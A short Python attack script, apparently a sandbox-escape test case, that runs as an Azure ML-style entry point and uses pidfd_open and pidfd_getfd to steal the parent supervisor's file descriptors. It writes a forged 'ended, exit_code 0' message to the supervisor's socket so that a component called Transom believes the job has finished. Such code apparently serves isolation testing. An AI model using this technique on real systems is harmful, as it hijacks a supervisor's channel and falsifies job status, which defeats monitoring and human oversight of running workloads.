"""Takes the supervisor's socket, says that the job has ended, and goes on when Transom believes it."""

import os
import stat
import time

from attack import attack, call, detached


def speak(above):
    process = call("pidfd_open", above, 0)
    for number in range(3, 64):
        try:
            stolen = call("pidfd_getfd", process, number, 0)
            if stat.S_ISSOCK(os.fstat(stolen).st_mode):
                os.write(stolen, b'{"ended": {"exit_code": 0}}\n')
                print(f"ACHIEVED: spoke as the supervisor on its socket {number}", flush=True)
        except OSError:
            continue
    time.sleep(3)


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    above = os.getppid()
    call("pidfd_getfd", call("pidfd_open", above, 0), 0, 0)
    detached(lambda: speak(above))
    time.sleep(1)
    return ""
